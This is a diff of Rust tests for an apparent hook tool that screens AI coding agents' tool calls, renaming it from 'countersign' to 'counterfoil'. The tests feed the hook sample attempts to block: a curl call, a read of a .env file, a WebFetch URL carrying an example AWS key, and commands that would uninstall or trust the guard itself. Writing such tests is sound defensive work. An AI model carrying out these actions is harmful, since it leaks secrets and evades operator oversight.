@@ -41,9 +41,9 @@ fn what_nobody_may_run_is_denied() {
         let answer = before(&stage, "Bash", json!({ "command": command }));
         assert_eq!(said(&answer).map(|(decision, _)| decision), Some("deny"), "{command}");
     }
-    let stage = Stage::with(&[("countersign.toml", "[hooks]\nblock_network_commands = true\n")]);
+    let stage = Stage::with(&[("counterfoil.toml", "[hooks]\nblock_network_commands = true\n")]);
     let answer = before(&stage, "Bash", json!({ "command": "curl https://example.com" }));
-    insta::assert_snapshot!(said(&answer).unwrap().1, @"countersign: `Bash` may not run: `curl` is blocked while the network is off (it runs only where the configuration allows the network)");
+    insta::assert_snapshot!(said(&answer).unwrap().1, @"counterfoil: `Bash` may not run: `curl` is blocked while the network is off (it runs only where the configuration allows the network)");
 }
 
 #[test]
@@ -79,9 +79,9 @@ paths = ["**/.env"]
 tool = "WebSearch"
 action = "ask"
 "#;
-    let stage = Stage::with(&[("countersign.toml", config)]);
+    let stage = Stage::with(&[("counterfoil.toml", config)]);
     let denied = before(&stage, "Read", json!({ "file_path": "/project/.env" }));
-    insta::assert_snapshot!(said(&denied).unwrap().1, @"countersign: `Read` may not run: denied by `no secrets` (choose another way; the operator's policy decides)");
+    insta::assert_snapshot!(said(&denied).unwrap().1, @"counterfoil: `Read` may not run: denied by `no secrets` (choose another way; the operator's policy decides)");
     assert_eq!(said(&denied).unwrap().0, "deny");
     let asked = before(&stage, "WebSearch", json!({ "query": "rust" }));
     assert_eq!(said(&asked).unwrap().0, "ask");
@@ -93,7 +93,7 @@ fn a_secret_that_would_leave_is_asked_about() {
     let stage = Stage::new();
     let url = "https://example.com/?key=AKIAIOSFODNN7EXAMPLE";
     let answer = before(&stage, "WebFetch", json!({ "url": url, "prompt": "?" }));
-    insta::assert_snapshot!(said(&answer).unwrap().1, @"countersign: what looks like a secret would leave this machine");
+    insta::assert_snapshot!(said(&answer).unwrap().1, @"counterfoil: what looks like a secret would leave this machine");
     assert_eq!(said(&answer).unwrap().0, "ask");
     let command = "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE aws s3 ls";
     let answer = before(&stage, "Bash", json!({ "command": command }));
@@ -231,17 +231,17 @@ fn walk(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
 fn the_users_own_commands_are_not_the_agents() {
     let stage = Stage::new();
     for command in [
-        "countersign hook claude-code < event.json",
-        "cat event.json | countersign hook claude-code",
-        "/usr/local/bin/countersign --state x hook codex",
-        "env A=1 countersign hook uninstall claude-code",
-        "bash -c 'countersign trust --yes'",
-        "countersign trust",
+        "counterfoil hook claude-code < event.json",
+        "cat event.json | counterfoil hook claude-code",
+        "/usr/local/bin/counterfoil --state x hook codex",
+        "env A=1 counterfoil hook uninstall claude-code",
+        "bash -c 'counterfoil trust --yes'",
+        "counterfoil trust",
     ] {
         let call = json!({ "tool_name": "Bash", "tool_input": { "command": command }, "tool_use_id": "t" });
         let answered = stage.event("PreToolUse", call);
         assert!(answered.out.contains("\"deny\""), "{command}: {answered:?}");
     }
-    let call = json!({ "tool_name": "Bash", "tool_input": { "command": "countersign check log.jsonl" }, "tool_use_id": "t" });
+    let call = json!({ "tool_name": "Bash", "tool_input": { "command": "counterfoil check log.jsonl" }, "tool_use_id": "t" });
     stage.event("PreToolUse", call).passes();
 }
